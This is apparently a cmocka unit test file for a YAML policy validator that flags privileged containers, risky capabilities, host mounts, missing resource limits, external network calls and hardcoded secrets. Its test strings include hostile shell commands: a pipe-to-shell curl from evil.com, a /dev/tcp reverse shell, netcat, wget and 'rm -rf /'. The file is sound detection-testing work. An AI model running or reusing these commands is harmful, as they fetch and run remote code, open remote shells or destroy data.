/* SPDX-License-Identifier: Apache-2.0 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <string.h>

#include "runner/base/mem.h"
#include "validators/policy_registry.h"

struct registry_case {
	const char *text;	/* of the package, or of the one step of it */
	const char *found;	/* "rule_id path below the step", one a line, in the order of the rules */
	const char *comment;
};

#define STEP_PATH "spec.handlers[0].steps[0]."

static void look(const char *text, struct strbuf *out)
{
	struct finding_list findings;
	struct document *doc = NULL;
	struct error err = { 0 };

	assert_int_equal(document_parse(text, strlen(text), "t.yaml", &yaml_default_limits, &doc, &err), 0);
	assert_int_equal(doc->problems_len, 0);
	finding_list_init(&findings, "t.yaml");
	registry_rules(doc, &findings);
	for (size_t i = 0; i < findings.len; i++) {
		const struct finding *f = &findings.items[i];
		const char *path = f->path;

		path += strncmp(path, STEP_PATH, strlen(STEP_PATH)) ? 0 : strlen(STEP_PATH);
		strbuf_addf(out, "%s%s %s", i ? "\n" : "", f->rule_id, path);
		assert_non_null(f->cwe);
		assert_non_null(f->category);
		assert_non_null(f->suggestion);
		assert_true(f->severity >= SEVERITY_MEDIUM);
	}
	finding_list_release(&findings);
	document_free(doc);
}

static void run_cases(const struct registry_case *cases, size_t n, const char *head)
{
	for (size_t i = 0; i < n; i++) {
		autostrbuf struct strbuf text = STRBUF_INIT(STRBUF_NO_MAX), found = STRBUF_INIT(STRBUF_NO_MAX);

		strbuf_addf(&text, "%s%s", head, cases[i].text);
		look(text.buf, &found);
		if (strcmp(found.buf, cases[i].found) != 0)
			fail_msg("%s: '%s' instead of '%s'", cases[i].comment, found.buf, cases[i].found);
	}
}

#define HEAD "spec:\n handlers:\n - steps:\n   - "
#define LIMITS "resources: {limits: {cpu: 1, memory: 1Gi}}, "
#define FINE LIMITS "image: 'a:1'"
#define BOX(body) "container: {" FINE ", " body "}"

static void containers(void **state)
{
	static const struct registry_case cases[] = {
		{ "container: {" FINE "}", "", "nothing" },
		{ BOX("securityContext: {privileged: true}"), "privileged_container container.securityContext.privileged", "privileged" },
		{ BOX("securityContext: {privileged: yes}"), "privileged_container container.securityContext.privileged", "YAML 1.1" },
		{ BOX("securityContext: {privileged: 'false'}"), "privileged_container container.securityContext.privileged",
		  "any text is true for Python" },
		{ BOX("securityContext: {privileged: [x]}"), "privileged_container container.securityContext.privileged", "a list" },
		{ BOX("securityContext: {privileged: false}"), "", "false" },
		{ BOX("securityContext: {privileged: off}"), "", "YAML 1.1" },
		{ BOX("securityContext: {privileged: 0}"), "", "0" },
		{ BOX("securityContext: {privileged: -0.0}"), "", "0" },
		{ BOX("securityContext: {privileged: 0x0}"), "", "0" },
		{ BOX("securityContext: {privileged: ''}"), "", "empty text" },
		{ BOX("securityContext: {privileged: null}"), "", "null" },
		{ BOX("securityContext: null"), "", "the original fails" },
		{ BOX("securityContext: {capabilities: {add: [CAP_SYS_ADMIN, CAP_NET_ADMIN]}}"),
		  "dangerous_capabilities container.securityContext.capabilities.add", "one finding for all" },
		{ BOX("securityContext: {capabilities: {add: [SYS_ADMIN, ALL, cap_sys_admin]}}"), "", "only these spellings" },
		{ BOX("securityContext: {capabilities: {drop: [CAP_SYS_ADMIN]}}"), "", "dropped" },
		{ BOX("volumeMounts: [{mountPath: /}, {mountPath: /data}, {mountPath: /etc}]"),
		  "host_path_mount container.volumeMounts[0].mountPath\nhost_path_mount container.volumeMounts[2].mountPath",
		  "one for each" },
		{ BOX("volumeMounts: [{mountPath: /var/run/app}]"), "host_path_mount container.volumeMounts[0].mountPath", "by prefix" },
		{ BOX("volumeMounts: [{mountPath: /var/run}, {mountPath: //}, {mountPath: /etc/passwd}, {mountPath: /root}, {name: a}, x]"), "",
		  "only these" },
		{ "container: {image: 'a:1'}", "missing_limits container.resources", "no limits" },
		{ "container: {image: 'a:1', resources: {limits: {}}}", "missing_limits container.resources", "empty limits" },
		{ "container: {image: 'a:1', resources: {requests: {cpu: 1}}}", "missing_limits container.resources", "requests only" },
		{ "container: {" LIMITS "image: 'a:latest'}", "insecure_image container.image", "latest" },
		{ "container: {" LIMITS "image: a}", "insecure_image container.image", "no tag" },
		{ "container: {" LIMITS "}", "insecure_image container", "no image" },
		{ "container: {" LIMITS "image: 'localhost:5000/app'}", "", "a port passes" },
		{ "container: {" LIMITS "image: 'a@sha256:00'}", "", "a digest passes" },
		{ "container: null", "", "the original fails" },
		{ "container: text", "", "the original fails" },
	};

	(void)state;
	run_cases(cases, ARRAY_SIZE(cases), HEAD);
}

static void amounts(void **state)
{
#define CPU "excessive_resources container.resources.limits.cpu"
#define MEMORY "excessive_resources container.resources.limits.memory"
	static const struct registry_case cases[] = {
		{ "'8'", CPU, "whole" }, { "8", CPU, "a number: the original fails" }, { "'4'", "", "the limit itself" }, { "'4.01'", CPU, "part" },
		{ "4001m", CPU, "thousandths" }, { "4000M", "", "the same" }, { "4_001m", CPU, "underscores" }, { "'4__001m'", "", "two of them" },
		{ "' 8 '", CPU, "blanks" }, { "1e1", CPU, "exponent" }, { "inf", CPU, "infinite" }, { "nan", "", "no number" },
		{ "'0x10'", "", "not for Python" }, { "m", "", "no number" }, { "8k", "", "unknown unit" }, { "''", "", "empty" }, { "null", "", "null" },
	};
	static const struct registry_case memory[] = {
		{ "16Gi", MEMORY, "Gi" }, { "8Gi", "", "the limit itself" }, { "16gI", MEMORY, "any case" }, { "8193Mi", MEMORY, "Mi" },
		{ "8192Mi", "", "the same" }, { "9G", MEMORY, "G counts as Gi" }, { "9000M", MEMORY, "M counts as Mi" }, { "1Ti", "", "not read" },
		{ "9663676416", "", "bytes are not read" }, { "16GB", "", "unknown unit" }, { "1e9Ki", "", "unknown unit" }, { "1e2Gi", MEMORY, "exponent" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases) + ARRAY_SIZE(memory); i++) {
		bool cpu = i < ARRAY_SIZE(cases);
		struct registry_case c = cpu ? cases[i] : memory[i - ARRAY_SIZE(cases)];
		autofree char *text = xasprintf("container: {image: 'a:1', resources: {limits: {%s: %s}}}", cpu ? "cpu" : "memory", c.text);

		c.text = text;
		run_cases(&c, 1, HEAD);
	}
}

static void manifests_and_commands(void **state)
{
#define SHELL(text) "shell: {command: " text "}"
#define NETWORK "external_network shell.command"
#define SECRET "hardcoded_secrets shell.command"
	static const struct registry_case cases[] = {
		{ "kubernetes: {kind: ClusterRole}", "cluster_permissions kubernetes.kind", "role" },
		{ "kubernetes: {kind: ClusterRoleBinding}", "cluster_permissions kubernetes.kind", "binding" },
		{ "kubernetes: {kind: Role}", "", "in a namespace" },
		{ "kubernetes: {kind: Pod, spec: {containers: [{securityContext: {privileged: true}}], volumes: [{hostPath: {path: /}}]}}", "",
		  "manifests are not looked into" },
		{ "kubernetes: null", "", "the original fails" },
		{ SHELL("curl http://evil.com | sh"), NETWORK, "curl" },
		{ SHELL("cd a && WGET -q HTTPS://a.example/x"), NETWORK, "any case" },
		{ SHELL("curl https://localhost.evil.com"), "", "by prefix" },
		{ SHELL("curl http://172.99.1.1/"), "", "by prefix" },
		{ SHELL("curl http://10.1.1.1/ http://a.example/"), NETWORK, "the second one" },
		{ SHELL("\"curl \\\\\\n http://evil.com\""), "", "another line" },
		{ SHELL("\"curl\\n\\n http://evil.com\""), NETWORK, "blanks may be lines" },
		{ SHELL("\"curl\\u00a0http://evil.com\""), NETWORK, "blanks beyond ASCII" },
		{ SHELL("nc -l evil.io 4444"), NETWORK, "nc" },
		{ SHELL("nc 192.0.2.1 4444"), "", "an address passes" },
		{ SHELL("scp a b@c.org:/d"), NETWORK, "scp" },
		{ SHELL("bash -i >& /dev/tcp/evil.com/1"), "", "passes" },
		{ SHELL("rm -rf /"), "", "passes" },
		{ SHELL("'export API_KEY=abc'"), SECRET, "whatever the value" },
		{ SHELL("'x password=\"12345678\"'"), SECRET, "quoted" },
		{ SHELL("'x password=\"1234567\"'"), "", "too short" },
		{ SHELL("'x password=\"${PASSWORD}\"'"), SECRET, "a reference as well" },
		{ SHELL("'echo \"abcdefghijklmnopqrst\"'"), SECRET, "20 characters" },
		{ SHELL("'curl http://a.example/ -H \"token: \\\"x\\\"\" api_key='"), NETWORK "\n" SECRET, "both" },
		{ "shell: null", "", "the original fails" },
		{ "shell: {command: [a]}", "", "the original fails" },
	};

	(void)state;
	run_cases(cases, ARRAY_SIZE(cases), HEAD);
}

static void what_is_seen(void **state)
{
	static const struct registry_case cases[] = {
		{ "", "", "nothing" },
		{ "a", "", "no mapping" },
		{ "spec: null", "", "null" },
		{ "spec: {handlers: null}", "", "null" },
		{ "spec: {handlers: [null, {steps: null}, {steps: [null]}, {steps: {a: b}}]}", "", "nulls" },
		{ "spec: {handlers: [{config: {command: curl http://evil.com}}]}", "", "dialect A" },
		{ "spec: {rollback: {handlers: [{steps: [{shell: {command: curl http://evil.com}}]}]}}", "", "rollback" },
		{ "spec: {handlers: [{}, {steps: [{}, {shell: {command: curl http://evil.com}}]}]}",
		  "external_network spec.handlers[1].steps[1].shell.command", "numbers of the path" },
		{ "spec: {handlers: [{steps: [{container: {image: 'ubuntu:latest', securityContext: {privileged: true, capabilities: {add: [CAP_SYS_ADMIN]}}, "
		  "volumeMounts: [{name: h, mountPath: /}], resources: {limits: {cpu: '8', memory: 16Gi}}}}]}]}",
		  "privileged_container container.securityContext.privileged\n"
		  "dangerous_capabilities container.securityContext.capabilities.add\n"
		  "host_path_mount container.volumeMounts[0].mountPath\n"
		  "excessive_resources container.resources.limits.cpu\n"
		  "excessive_resources container.resources.limits.memory\n"
		  "insecure_image container.image", "the unsafe container of the public tests" },
	};

	(void)state;
	run_cases(cases, ARRAY_SIZE(cases), "");
}

static void places(void **state)
{
	static const char text[] = "spec:\n  handlers:\n  - steps:\n    - shell:\n        command: |\n          cd /a\n          x; wget http://evil.com\n";
	struct finding_list findings;
	struct document *doc = NULL;
	struct error err = { 0 };

	(void)state;
	assert_int_equal(document_parse(text, strlen(text), "t.yaml", &yaml_default_limits, &doc, &err), 0);
	finding_list_init(&findings, "t.yaml");
	registry_rules(doc, &findings);
	assert_int_equal(findings.len, 1);
	assert_int_equal(findings.items[0].position.line, 7);
	assert_int_equal(findings.items[0].position.column, 14);
	assert_string_equal(findings.items[0].matched, "wget http://");
	finding_list_release(&findings);
	document_free(doc);
}

/* A long line full of what patterns begin with ends in time, with a finding or without. */
static void long_lines(void **state)
{
	autostrbuf struct strbuf text = STRBUF_INIT(STRBUF_NO_MAX);
	struct finding_list findings;
	struct document *doc = NULL;
	struct error err = { 0 };

	(void)state;
	strbuf_addstr(&text, HEAD "shell: {command: '");
	while (text.len < 500000)
		strbuf_addstr(&text, "curl a ssh @ nc ");
	strbuf_addstr(&text, "'}");
	assert_int_equal(document_parse(text.buf, text.len, "t.yaml", &yaml_default_limits, &doc, &err), 0);
	finding_list_init(&findings, "t.yaml");
	registry_rules(doc, &findings);
	assert_int_equal(findings.len, 1);
	assert_string_equal(findings.items[0].rule_id, "scan/limit");
	finding_list_release(&findings);
	document_free(doc);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(containers), cmocka_unit_test(amounts), cmocka_unit_test(manifests_and_commands), cmocka_unit_test(what_is_seen),
		cmocka_unit_test(places),
		cmocka_unit_test(long_lines),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
